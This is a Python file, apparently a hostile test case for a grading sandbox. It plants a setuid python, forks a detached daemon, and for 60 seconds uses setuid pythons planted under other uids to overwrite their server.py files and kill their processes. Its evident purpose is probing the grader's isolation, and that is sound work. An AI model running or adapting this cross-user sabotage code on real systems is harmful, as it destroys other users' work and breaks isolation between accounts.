# Hostile (issue 19): graded last, beside the last victims. Plants its own setuid python, then
# for 60 s (bounded), from a daemon that outlives each of its own server's runs, runs every setuid
# python planted by another uid: as that uid, it overwrites the server.py of every process of
# that uid (a classmate graded now under it) and kills them. Then serves correctly.
import os
import subprocess
import time

from _attack import plant_setuid_python, planted_pythons, serve

HOP = r"""
import os, signal, sys
me, uid = sys.argv[1], os.geteuid()
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if os.stat("/proc/" + pid).st_uid != uid or uid == os.getuid():
            continue
        cwd = os.readlink("/proc/%s/cwd" % pid)
        target = "/proc/%s/cwd/server.py" % pid  # the magic link: any mount namespace
        if cwd != me and os.path.isfile(target):
            with open(target, "w") as fh:
                fh.write("raise SystemExit('sabotaged by x_zz_hop')\n")
            os.kill(int(pid), signal.SIGKILL)
    except OSError:
        pass
"""


def hop():
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        for path in planted_pythons():
            try:
                subprocess.run([path, "-c", HOP, os.getcwd()], timeout=5,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            except (OSError, subprocess.SubprocessError):
                pass
        time.sleep(0.05)


plant_setuid_python()
if os.fork() == 0:
    os.setsid()
    devnull = os.open(os.devnull, os.O_RDWR)  # a daemon lets go of the suite's pipes
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    hop()
    os._exit(0)
serve()
